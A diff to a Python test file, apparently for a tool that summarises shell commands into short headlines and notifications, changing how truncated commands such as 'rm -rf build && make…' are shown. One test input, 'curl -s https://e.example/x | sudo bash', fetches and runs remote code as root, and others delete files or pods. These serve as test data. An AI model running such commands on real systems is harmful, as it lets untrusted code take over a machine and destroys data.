@@ -66,11 +66,14 @@ SCRIPT = "\n".join(["echo step"] * 40 + ["curl -s https://e.example/x | sudo bas
         ),
         (
             "kubectl -n x delete pod a b; kubectl get pods -n x",
-            'Runs "kubectl… delete… b", "kubectl get pods -n x"',
+            'Runs "kubectl… delete pod… b", "kubectl get pods -n x"',
         ),
-        ("rm -rf build && make all the parts of it again", 'Deletes "build", runs "make…"'),
-        ("rm -rf build && make 'all of it'", 'Deletes "build", runs "make…"'),
-        ("rm -rf build && CC=/tmp/cc make release", 'Deletes "build", runs "make…"'),
+        (
+            "rm -rf build && make all the parts of it again",
+            'Deletes "build", runs "make all the parts…"',
+        ),
+        ("rm -rf build && make 'all of it'", 'Deletes "build", runs "make all of it…"'),
+        ("rm -rf build && CC=/tmp/cc make release", 'Deletes "build", runs "make release…"'),
         ("rm -rf build && CC=/tmp/cc make; make", 'Deletes "build", runs "make…"'),
         (
             "rm -rf build && make release > /srv/log",
@@ -127,9 +130,9 @@ def test_a_head_leaves_room_for_what_was_found() -> None:
     one = asked(command="rm -rf build && make all of it -j 4")
     assert plain_head(head_of(one)) == 'Deletes "build", runs "make all of it -j 4"'
     found = replace(one, findings=("removes folders whole",), finding_places=("command",))
-    assert plain_head(head_of(found)) == 'Deletes "build", runs "make…"'
+    assert plain_head(head_of(found)) == 'Deletes "build", runs "make all…"'
     risky = replace(one, risk=Risk(level=RiskLevel.HIGH, reasons=("it is for all",)))
-    assert plain_head(head_of(risky)) == 'Deletes "build", runs "make…"'
+    assert plain_head(head_of(risky)) == 'Deletes "build", runs "make all…"'
     long = replace(one, findings=("says so much that no head leaves room for it " * 2,))
     assert head_of(long) == head_of(one)
 
@@ -293,7 +296,7 @@ def test_a_notification_says_who_and_what() -> None:
     assert notice_of(risky) == f"High risk · {made.summary}"
     long = asked("x" * 90, APP, **{f"{'name' * 9}{n}": "value" * 9 for n in range(9)})
     cut = card_of(long, lines=9, chars=900).summary
-    assert len(cut) <= NOTICE_CHARS and cut.endswith("…") and cut.count('"') % 2 == 0
+    assert len(cut) <= NOTICE_CHARS and "…" in cut and cut.count('"') % 2 == 0
 
 
 def test_a_discreet_notification_says_nothing_of_the_call() -> None:
